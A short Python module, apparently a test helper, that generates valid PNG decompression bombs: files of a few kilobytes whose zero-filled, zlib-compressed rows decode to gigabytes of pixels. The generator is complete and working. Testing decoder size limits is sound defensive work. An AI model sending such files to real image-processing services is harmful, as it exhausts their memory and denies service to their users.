"""Image decompression bombs made without ever holding the pixels: a real PNG whose
zero-filled rows are compressed as a stream, so a few KB on disk claim gigabytes decoded."""

import struct
import zlib
from functools import lru_cache


def _chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


@lru_cache(maxsize=8)
def png_bomb(width: int, height: int) -> bytes:
    """A valid 8-bit greyscale PNG of width × height black pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    row = b"\x00" * (width + 1)  # filter byte + pixels
    packer = zlib.compressobj(1)
    rows_per_call = max(1, 4_000_000 // len(row))
    block = row * rows_per_call
    parts = [packer.compress(block) for _ in range(height // rows_per_call)]
    parts.append(packer.compress(row * (height % rows_per_call)))
    compressed = b"".join(parts) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", compressed)
        + _chunk(b"IEND", b"")
    )
